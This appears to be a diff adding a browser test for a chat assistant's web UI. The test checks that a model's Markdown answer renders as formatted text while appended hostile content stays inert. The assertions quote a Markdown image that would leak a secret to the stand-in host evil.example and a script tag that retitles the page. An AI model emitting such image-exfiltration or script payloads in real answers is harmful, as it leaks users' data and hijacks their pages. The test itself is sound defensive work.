@@ -625,6 +625,43 @@ def test_model_and_abstract_text_cannot_inject_markup(browser: Browser) -> None:
         app.close()
 
 
+LAID_OUT = "Zebras stripe for **two reasons** [1]:\n\n1. *heat*, which `stripes` shed [1]\n2. flies [1]\n\n" + ATTACK
+
+
+class ModelAssistant(ScriptedAssistant):
+    """ATTACK again, written by a model in Markdown: its layout is shown, and still nothing else acts."""
+
+    def stream(self, question: str, history: object = None, filters: object = None, **overrides: object) -> Iterator[object]:
+        for event in super().stream(question, history, filters, **overrides):
+            if isinstance(event, Final):
+                yield Final(answer=event.answer.model_copy(update={"text": LAID_OUT, "mode": "openai"}))
+            elif not isinstance(event, TextDelta):
+                yield event
+
+
+def test_a_models_markdown_is_laid_out_on_the_page_and_still_cannot_inject(browser: Browser) -> None:
+    app, url = serve(ModelAssistant())
+    try:
+        page, outside = open_page(browser, url)
+        ask(page, "Why do zebras have stripes?")
+        bubble = page.locator("#aa-chat .aa-answer").last
+        expect(bubble.locator("strong").first).to_have_text("two reasons")
+        expect(bubble.locator("ol > li")).to_have_count(2)
+        expect(bubble.locator("ol > li").first.locator("em")).to_have_text("heat")
+        expect(bubble.locator("ol code")).to_have_text("stripes")
+        expect(bubble).to_contain_text("![leak](https://evil.example/pixel.png?q=SECRET)")  # shown as text
+        expect(bubble).to_contain_text("<script>document.title='owned'</script>")
+        shot(page, "model-markdown.png")
+        assert page.locator("#aa-chat img, #aa-chat iframe, #aa-chat script, #aa-chat .x").count() == 0
+        chat_links = page.locator("#aa-chat a").evaluate_all("as => as.map(a => a.getAttribute('href'))")
+        assert chat_links and all(h.startswith("#src-1-1") for h in chat_links), chat_links
+        assert page.title() == "Abstract Assistant"
+        assert outside == [], outside
+        page.close()
+    finally:
+        app.close()
+
+
 class SlowAssistant(ScriptedAssistant):
     """A model that reads the prompt for a few seconds before it writes, as a local one does."""
 
